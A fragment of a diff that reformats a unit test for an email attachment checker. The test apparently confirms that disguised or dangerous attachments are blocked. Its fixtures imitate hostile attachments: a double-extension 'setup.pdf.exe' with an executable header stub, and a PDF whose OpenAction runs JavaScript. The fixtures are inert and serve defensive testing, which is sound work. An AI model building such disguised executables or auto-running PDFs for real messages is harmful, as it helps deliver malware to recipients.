     assert reads == ["invoice.pdf", "photo.jpg"]
 
 
 def test_refused_files_become_findings_on_the_attachments():
     reads: list[str] = []
-    verdict = check_message(draft(
-        facts("warranty.pdf", sample.image("PNG"), reads),
-        facts("setup.pdf.exe", b"MZ\x90\x00", reads),
-        facts("manual.pdf", sample.simple_pdf(b"/OpenAction 6 0 R",
-                                              (b"<< /S /JavaScript /JS (x) >>",)), reads),
-    ))
+    verdict = check_message(
+        draft(
+            facts("warranty.pdf", sample.image("PNG"), reads),
+            facts("setup.pdf.exe", b"MZ\x90\x00", reads),
+            facts(
+                "manual.pdf",
+                sample.simple_pdf(b"/OpenAction 6 0 R", (b"<< /S /JavaScript /JS (x) >>",)),
+                reads,
+            ),
+        )
+    )
     assert verdict.blocked
     found = attach_violations(verdict)
     assert [v.excerpt for v in found["attach.content"]] == ["warranty.pdf", "manual.pdf"]
